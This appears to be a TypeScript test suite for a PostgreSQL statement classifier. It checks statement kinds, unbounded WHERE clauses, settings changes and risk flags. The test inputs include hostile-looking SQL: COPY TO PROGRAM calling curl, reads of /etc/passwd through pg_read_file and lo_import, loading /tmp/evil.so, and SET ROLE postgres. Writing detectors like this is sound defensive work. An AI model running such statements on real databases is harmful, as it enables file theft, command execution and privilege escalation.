import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import fc from 'fast-check';
import { SqlClassifier } from './sql-classifier.js';

let c: SqlClassifier;
before(async () => {
  c = await SqlClassifier.create();
});
const kinds = (sql: string) => c.classify(sql).map((s) => s.kind);

test('kinds come from the parser, one per statement', () => {
  assert.deepEqual(kinds('select 1; insert into t values (1); update t set a = 1 where b; delete from t'), [
    'SELECT',
    'INSERT',
    'UPDATE',
    'DELETE',
  ]);
  assert.deepEqual(
    kinds(
      'drop table t; truncate t; alter table t add b int; create index on t(a); grant select on t to x; revoke all on t from x',
    ),
    ['DROP', 'TRUNCATE', 'ALTER', 'CREATE', 'GRANT', 'REVOKE'],
  );
  assert.deepEqual(kinds('begin; commit; set x = 1; show x; explain select 1'), [
    'TRANSACTION',
    'TRANSACTION',
    'SET',
    'SHOW',
    'EXPLAIN',
  ]);
  assert.deepEqual(kinds(''), []);
  assert.deepEqual(kinds('selec t'), ['UNKNOWN']);
});

test('WHERE is seen on UPDATE and DELETE; strings that merely contain WHERE do not count', () => {
  assert.equal(c.classify('delete from t -- where a = 1')[0]!.hasWhere, false);
  assert.equal(c.classify("update t set note = 'where'")[0]!.hasWhere, false);
  assert.equal(c.classify('delete from t where a = 1')[0]!.hasWhere, true);
});

test('writes nested in CTEs and EXPLAIN ANALYZE are found', () => {
  const cte = c.classify('with d as (delete from t returning *) select * from d');
  assert.deepEqual(
    cte.map((s) => [s.kind, s.nested, s.hasWhere]),
    [
      ['SELECT', false, false],
      ['DELETE', true, false],
    ],
  );
  assert.deepEqual(kinds('explain analyze update t set a = 1'), ['EXPLAIN', 'UPDATE']);
});

test('read-only facts: COPY TO reads, COPY FROM writes, BEGIN READ WRITE writes, SELECT INTO creates', () => {
  assert.equal(c.classify('copy t to stdout')[0]!.writes, false);
  assert.equal(c.classify('copy t from stdin')[0]!.writes, true);
  assert.equal(c.classify('begin read write')[0]!.writes, true);
  assert.equal(c.classify('begin read only')[0]!.writes, false);
  assert.deepEqual(kinds('select * into x from t'), ['CREATE']);
  assert.deepEqual(c.classify('select * from s.t join u using (id)')[0]!.tables, ['s.t', 'u']);
});

const first = (sql: string) => {
  const [s] = c.classify(sql);
  assert.ok(s, sql);
  return s;
};
const allFunctions = (sql: string) => c.classify(sql).flatMap((s) => s.functions);
const allFlags = (sql: string) => [...new Set(c.classify(sql).flatMap((s) => s.flags))].sort();
const settings = (sql: string) =>
  c.classify(sql).flatMap((s) => s.settings.map(({ scope: _, ...rest }) => rest));

test('functions: lower-cased and unqualified, however spelled and wherever nested', () => {
  assert.deepEqual(first("select pg_catalog.pg_read_file('/etc/passwd')").functions, ['pg_read_file']);
  assert.deepEqual(first("select PG_READ_FILE('x')").functions, ['pg_read_file']);
  // Quoted, it is another function to the server; a look-alike is flagged all the same.
  assert.deepEqual(first(`select "PG_READ_FILE"('x')`).functions, ['pg_read_file']);
  assert.deepEqual(first(`select "pg_catalog"."pg_read_file"('x')`).functions, ['pg_read_file']);
  assert.deepEqual(
    first("with a as (select 1 from t where x in (select lo_export(1, '/tmp/x'))) select * from a").functions,
    ['lo_export'],
  );
  assert.deepEqual(first("create table t (a text default pg_read_file('x'))").functions, ['pg_read_file']);
  assert.deepEqual(first("select * from rows from (pg_ls_dir('.'))").functions, ['pg_ls_dir']);
  assert.deepEqual(first("insert into t values ((select pg_stat_file('x')))").functions, ['pg_stat_file']);
  assert.deepEqual(first('call myschema.do_things(1)').functions, ['do_things']);
  assert.ok(first('select count(*), lower(x) from t').functions.includes('count'));
});

test('functions bound to run later count: triggers, casts, operators, aggregates', () => {
  assert.deepEqual(
    first('create trigger tr before insert on t for each row execute function pg_read_file()').functions,
    ['pg_read_file'],
  );
  assert.deepEqual(first('create cast (int as text) with function pg_read_file(int)').functions, [
    'pg_read_file',
  ]);
  assert.deepEqual(
    first('create operator ### (rightarg = text, function = pg_catalog.pg_read_file)').functions,
    ['pg_read_file'],
  );
  assert.deepEqual(first('create aggregate a(int) (sfunc = pg_read_file, stype = text)').functions, [
    'pg_read_file',
  ]);
  // EXPLAIN (ANALYZE) is an option, not a function.
  assert.deepEqual(first('explain (analyze) select 1').functions, []);
});

test('settings: SET, SET LOCAL, RESET and their special spellings', () => {
  assert.deepEqual(settings("SeT cLiEnt_EnCoDiNg TO 'GBK'"), [
    { name: 'client_encoding', value: 'GBK', dynamic: false },
  ]);
  assert.deepEqual(settings(`set "Client_Encoding" = 'SJIS'`), [
    { name: 'client_encoding', value: 'SJIS', dynamic: false },
  ]);
  assert.deepEqual(settings("set names 'latin1'"), [
    { name: 'client_encoding', value: 'latin1', dynamic: false },
  ]);
  assert.deepEqual(settings('set names default'), [{ name: 'client_encoding', value: null, dynamic: false }]);
  assert.deepEqual(settings('set standard_conforming_strings = off'), [
    { name: 'standard_conforming_strings', value: 'off', dynamic: false },
  ]);
  assert.deepEqual(settings('set local statement_timeout to 5'), [
    { name: 'statement_timeout', value: '5', dynamic: false },
  ]);
  assert.deepEqual(settings('reset client_encoding'), [
    { name: 'client_encoding', value: null, dynamic: false },
  ]);
  assert.deepEqual(settings('reset all'), [{ name: '*', value: null, dynamic: false }]);
  assert.deepEqual(settings('discard all'), [{ name: '*', value: null, dynamic: false }]);
  assert.deepEqual(settings('set role admin'), [{ name: 'role', value: 'admin', dynamic: false }]);
  assert.deepEqual(settings("set session authorization 'bob'"), [
    { name: 'session_authorization', value: 'bob', dynamic: false },
  ]);
  assert.deepEqual(settings("set time zone 'UTC'"), [{ name: 'timezone', value: 'UTC', dynamic: false }]);
  assert.deepEqual(settings("set time zone interval '+02:00' hour to minute"), [
    { name: 'timezone', value: null, dynamic: true },
  ]);
  // As the server flattens a list: identifiers quoted for search_path, numbers as written.
  assert.deepEqual(settings(`set search_path = a, "B", ''`), [
    { name: 'search_path', value: 'a, "B", ""', dynamic: false },
  ]);
  assert.deepEqual(settings("set my.opt = 'a', -1, 2.5"), [
    { name: 'my.opt', value: 'a, -1, 2.5', dynamic: false },
  ]);
  assert.deepEqual(settings('set transaction isolation level serializable'), [
    { name: 'transaction_isolation', value: 'serializable', dynamic: false },
  ]);
  assert.deepEqual(settings('set session characteristics as transaction read only'), [
    { name: 'default_transaction_read_only', value: '1', dynamic: false },
  ]);
  assert.deepEqual(settings('begin read write'), [
    { name: 'transaction_read_only', value: '0', dynamic: false },
  ]);
  assert.deepEqual(first('set local x = 1').settings[0]?.scope, 'transaction');
  assert.deepEqual(first('set x = 1').settings[0]?.scope, 'session');
});

test('settings: set_config anywhere, constant or not', () => {
  assert.deepEqual(settings("select set_config('Client_Encoding', 'GBK', false)"), [
    { name: 'client_encoding', value: 'GBK', dynamic: false },
  ]);
  assert.deepEqual(settings("select pg_catalog.set_config('a', 'b'::text, true)"), [
    { name: 'a', value: 'b', dynamic: false },
  ]);
  assert.equal(first("select set_config('a', 'b', true)").settings[0]?.scope, 'transaction');
  assert.equal(first("select set_config('a', 'b', $1)").settings[0]?.scope, 'session');
  assert.deepEqual(settings("select set_config(lower('X'), 'y', false)"), [
    { name: '*', value: 'y', dynamic: true },
  ]);
  assert.deepEqual(settings("select set_config('role', $1, false)"), [
    { name: 'role', value: null, dynamic: true },
  ]);
  assert.deepEqual(settings("select set_config('a', 'b' || 'c', false)"), [
    { name: 'a', value: null, dynamic: true },
  ]);
  // A cast that could change the text (char(3) truncates) is not taken as a constant.
  assert.deepEqual(settings("select set_config('a', 'bcd'::char(1), false)"), [
    { name: 'a', value: null, dynamic: true },
  ]);
  assert.deepEqual(settings("select set_config(new_value => 'v', setting_name => 'n', is_local => false)"), [
    { name: 'n', value: 'v', dynamic: false },
  ]);
  assert.deepEqual(settings("select set_config('a', null, false)"), [
    { name: 'a', value: null, dynamic: false },
  ]);
  assert.deepEqual(
    settings("update t set a = 1 where id in (select 1 from (select set_config('role', 'x', false)) s)"),
    [{ name: 'role', value: 'x', dynamic: false }],
  );
  assert.deepEqual(
    settings("with d as (delete from t where a = set_config('x', 'y', false)) select 1").length,
    2,
  );
});

test('settings: ALTER SYSTEM, ALTER ROLE/DATABASE and function SET clauses are listed with their scope', () => {
  const scoped = (sql: string) => first(sql).settings;
  assert.deepEqual(scoped("alter system set work_mem = '1MB'"), [
    { name: 'work_mem', value: '1MB', dynamic: false, scope: 'system' },
  ]);
  assert.deepEqual(scoped("alter role r set client_encoding = 'GBK'"), [
    { name: 'client_encoding', value: 'GBK', dynamic: false, scope: 'role' },
  ]);
  assert.deepEqual(scoped('alter database d reset all'), [
    { name: '*', value: null, dynamic: false, scope: 'database' },
  ]);
  assert.deepEqual(scoped('alter function f() set search_path = public'), [
    { name: 'search_path', value: 'public', dynamic: false, scope: 'function' },
  ]);
  assert.deepEqual(scoped("create function f() returns int language sql set role = 'x' as 'select 1'"), [
    { name: 'role', value: 'x', dynamic: false, scope: 'function' },
  ]);
});

test('flags name what a statement can do beyond its kind', () => {
  const cases: [string, string[]][] = [
    ['do $$begin perform 1; end$$', ['do_block']],
    ["create function f() returns int language plpgsql as 'begin return 1; end'", ['procedural_function']],
    ["create or replace procedure p() language c as '/tmp/x.so', 'p'", ['procedural_function']],
    ["create function f() returns int as 'select 1'", ['procedural_function']], // no language: opaque
    ["create function f() returns int language sql as 'select 1'", []],
    ['create function f() returns int return 1', []],
    ['call p()', ['call']],
    ["copy t to program 'curl evil'", ['copy_program']],
    ["copy t from program 'cat /etc/passwd'", ['copy_program']],
    ["copy t from '/etc/passwd'", ['copy_server_file']],
    ["copy (select 1) to '/tmp/x'", ['copy_server_file']],
    ['copy t from stdin', []],
    ["alter system set shared_preload_libraries = 'x'", ['alter_system']],
    ['set role postgres', ['set_role']],
    ['set local role postgres', ['set_role']],
    ["select set_config('ROLE', 'postgres', false)", ['set_role']],
    ["select set_config('role', $1, false)", ['set_role']],
    ["alter role me set role = 'postgres'", ['set_role']],
    ['reset role', []],
    ['set role none', []],
    ['set session authorization postgres', ['set_session_authorization']],
    ['reset session authorization', []],
    ['set session authorization default', []],
    ['select set_config($1, $2, false)', ['dynamic_setting']],
    ["select pg_catalog.pg_read_file('/etc/passwd')", ['server_file_access']],
    ["select pg_read_binary_file('x')", ['server_file_access']],
    ["select * from pg_ls_dir('.')", ['server_file_access']],
    ["select lo_import('/etc/passwd')", ['server_file_access']],
    ["select lo_export(1, '/tmp/x')", ['server_file_access']],
    ['select lo_get(1)', ['large_object']],
    ['select pg_terminate_backend(1)', ['terminate_backend']],
    ['select pg_cancel_backend(1)', ['terminate_backend']],
    ["select * from dblink('host=x', 'select 1') as t(a int)", ['dblink']],
    ["select dblink_exec('drop table t')", ['dblink']],
    ['create extension dblink', ['create_extension']],
    ['create language plperlu', ['create_extension']],
    ['create server s foreign data wrapper postgres_fdw', ['foreign_data']],
    ["load '/tmp/evil.so'", ['load_library']],
    ["select * from t where a = 1 and b like 'pg_read_file%'", []],
    ['select pg_sleep(0)', []],
  ];
  for (const [sql, flags] of cases) assert.deepEqual(allFlags(sql), flags.sort(), sql);
});

test('sql function bodies are classified as nested statements; an unreadable one is UNKNOWN', () => {
  const cls = c.classify(
    "create function f() returns void language sql as 'delete from t; select pg_read_file(''x'')'",
  );
  assert.deepEqual(
    cls.map((s) => [s.kind, s.nested, s.hasWhere]),
    [
      ['CREATE', false, false],
      ['DELETE', true, false],
      ['SELECT', true, false],
    ],
  );
  assert.deepEqual(cls[2]?.flags, ['server_file_access']);
  assert.deepEqual(
    c
      .classify('create procedure p() begin atomic delete from t where true; end')
      .map((s) => [s.kind, s.hasWhere]),
    [
      ['CREATE', false],
      ['DELETE', false],
    ],
  );
  assert.deepEqual(
    c.classify("create function f() returns int language sql as 'selec t'").map((s) => [s.kind, s.nested]),
    [
      ['CREATE', false],
      ['UNKNOWN', true],
    ],
  );
  assert.deepEqual(
    allFunctions("create function f() returns int language sql as 'select lo_import(''/x'')'"),
    ['lo_import'],
  );
});

test('hasWhere needs a column: constant conditions are unbounded', () => {
  const unbounded = [
    'delete from t where true',
    'delete from t where 1=1',
    "delete from t where 'a'='a'",
    'delete from t where not false',
    'delete from t where (true)',
    'update t set a = 1 where 1 < 2 and 2 > 1',
    'update t set a = 1 where $1',
    'delete from t where exists (select 1)',
    'delete from t where null is null',
    "delete from t where 'x' is not null",
  ];
  for (const sql of unbounded) assert.equal(first(sql).hasWhere, false, sql);
  const bounded = [
    'delete from t where id = 1',
    'delete from t where t.id = $1',
    'delete from t where not archived',
    'update t set a = 1 where id in (select id from u)',
    'delete from t where exists (select 1 from u where u.tid = t.id)',
    'delete from t where current of c',
  ];
  for (const sql of bounded) assert.equal(first(sql).hasWhere, true, sql);
  // The nested entry is judged by the same rule.
  assert.equal(
    c.classify('with d as (delete from t where 1=1 returning *) select * from d')[1]?.hasWhere,
    false,
  );
});

test('an unparseable statement carries empty facts of its own (not a shared array)', () => {
  const [u] = c.classify('selec t');
  assert.deepEqual([u?.kind, u?.functions, u?.settings, u?.flags], ['UNKNOWN', [], [], []]);
  u?.flags.push('do_block');
  assert.deepEqual(c.classify('selec t also')[0]?.flags, []);
});

// --- property tests ---

const randomCase = (word: string) =>
  fc
    .array(fc.boolean(), { minLength: word.length, maxLength: word.length })
    .map((ups) => [...word].map((ch, i) => (ups[i] ? ch.toUpperCase() : ch)).join(''));

/** Setting names: real ones, and custom dotted ones (a prefix keeps them clear of SQL keywords). */
const settingName = fc.oneof(
  fc.constantFrom(
    'client_encoding',
    'standard_conforming_strings',
    'work_mem',
    'statement_timeout',
    'datestyle',
  ),
  fc
    .tuple(fc.stringMatching(/^[a-z_][a-z0-9_]{0,8}$/), fc.stringMatching(/^[a-z0-9_]{0,8}$/))
    .map(([a, b]) => `vg_${a}.vg_${b}`),
);

const anyText = fc
  .oneof(fc.string(), fc.string({ unit: 'grapheme' }), fc.string({ unit: 'binary-ascii' }))
  .filter((t) => !t.includes('\0'));

/** One string, written as a standard, an escape (E'') or a dollar-quoted literal. */
function stringLiteral(value: string) {
  const spellings = [
    `'${value.replaceAll("'", "''")}'`,
    `E'${value.replaceAll('\\', '\\\\').replaceAll("'", "\\'")}'`,
  ];
  if (!value.includes('$')) spellings.push(`$q$${value}$q$`);
  return fc.constantFrom(...spellings);
}

/** Something that does not parse as SQL text around the statement: comments, blanks, other statements. */
const filler = fc.constantFrom('', ' ', '\n', '/* set x = 1 */ ', '-- set y = 2\n', 'select 1; ', 'begin; ');

test('property: a SET of a name always shows up, with the value the server reads', () => {
  const value = fc.oneof(
    anyText.chain((v) => stringLiteral(v).map((lit) => ({ lit, expected: v }))),
    fc.integer().map((n) => ({ lit: String(n), expected: String(n) })),
  );
  fc.assert(
    fc.property(
      settingName,
      fc.boolean(),
      value,
      fc.constantFrom('set', 'SET SESSION', 'Set Local'),
      fc.constantFrom(' = ', ' to ', ' TO ', '='),
      filler,
      filler,
      (name, quoteName, v, set, op, before, after) => {
        const spelled = quoteName ? `"${name.toUpperCase()}"` : name;
        const sql = `${before}${set} ${spelled}${op}${v.lit}; ${after}`;
        const found = c.classify(sql).flatMap((s) => s.settings);
        return found.some((s) => s.name === name && s.value === v.expected && !s.dynamic);
      },
    ),
    { numRuns: 400 },
  );
  // Names in any letter case, unquoted, fold to lower case.
  fc.assert(
    fc.property(randomCase('client_encoding'), anyText, (name, v) => {
      const found = c.classify(`SET ${name} TO '${v.replaceAll("'", "''")}'`)[0]?.settings;
      return found?.[0]?.name === 'client_encoding' && found[0].value === v;
    }),
    { numRuns: 200 },
  );
});

test('property: set_config with constants is read exactly; with anything computed it is dynamic', () => {
  fc.assert(
    fc.property(
      settingName,
      anyText.chain((v) => stringLiteral(v).map((lit) => ({ lit, v }))),
      fc.constantFrom(
        'select %;',
        'select 1 from t where a = %',
        'with x as (select %) select * from x',
        'update t set a = % where id = 1',
      ),
      (name, { lit, v }, shape) => {
        const call = `pg_catalog.set_config('${name.toUpperCase()}', ${lit}, false)`;
        const [top] = c.classify(shape.replace('%', () => call));
        const s = top?.settings.find((x) => x.name === name);
        return s !== undefined && s.value === v && !s.dynamic;
      },
    ),
    { numRuns: 300 },
  );
  fc.assert(
    fc.property(
      fc.constantFrom(
        "lower('X')",
        '$1',
        "'a' || 'b'",
        'current_user',
        '(select name from t)',
        "'x'::char(2)",
      ),
      fc.boolean(),
      (computed, inName) => {
        const sql = inName
          ? `select set_config(${computed}, 'v', false)`
          : `select set_config('n', ${computed}, false)`;
        const s = c.classify(sql)[0]?.settings[0];
        return s?.dynamic === true && (inName ? s.name === '*' : s.name === 'n' && s.value === null);
      },
    ),
  );
});

/** A boolean expression over constants, and whether a column appears in it. */
type Expr = { sql: string; column: boolean };
const constantTerm = fc.constantFrom("'a'", '1', '2.5', 'null', '$1', "'x'::text", 'true');
const columnTerm = fc.constantFrom('id', 't.id', '"Id"', 'archived', 'u.x');
const term: fc.Arbitrary<Expr> = fc.oneof(
  constantTerm.map((sql) => ({ sql, column: false })),
  columnTerm.map((sql) => ({ sql, column: true })),
);
const { expr } = fc.letrec<{ expr: Expr; atom: Expr }>((tie) => ({
  atom: fc.oneof(
    fc.constantFrom('true', 'false', 'not false', '1=1').map((sql) => ({ sql, column: false })),
    fc
      .tuple(term, fc.constantFrom('=', '<>', '<', '>=', 'is not distinct from'), term)
      .map(([a, op, b]) => ({ sql: `${a.sql} ${op} ${b.sql}`, column: a.column || b.column })),
    term.map((t) => ({ sql: `${t.sql} is null`, column: t.column })),
  ),
  expr: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    tie('atom'),
    tie('expr').map((e) => ({ sql: `not (${e.sql})`, column: e.column })),
    fc
      .tuple(tie('expr'), fc.constantFrom('and', 'or', 'AND', 'Or'), tie('expr'))
      .map(([a, op, b]) => ({ sql: `(${a.sql}) ${op} (${b.sql})`, column: a.column || b.column })),
    tie('expr').map((e) => ({ sql: `exists (select 1 where ${e.sql})`, column: e.column })),
  ),
}));

test('property: hasWhere holds exactly when the WHERE clause refers to a column', () => {
  fc.assert(
    fc.property(
      expr,
      fc.constantFrom(
        'delete from t where %',
        'update t set a = 1 where %',
        'with d as (delete from t where % returning 1) select 1',
      ),
      (e, shape) => {
        const entries = c.classify(shape.replace('%', () => e.sql));
        const write = entries.find((s) => s.kind === 'DELETE' || s.kind === 'UPDATE');
        return write !== undefined && write.hasWhere === e.column;
      },
    ),
    { numRuns: 500 },
  );
});
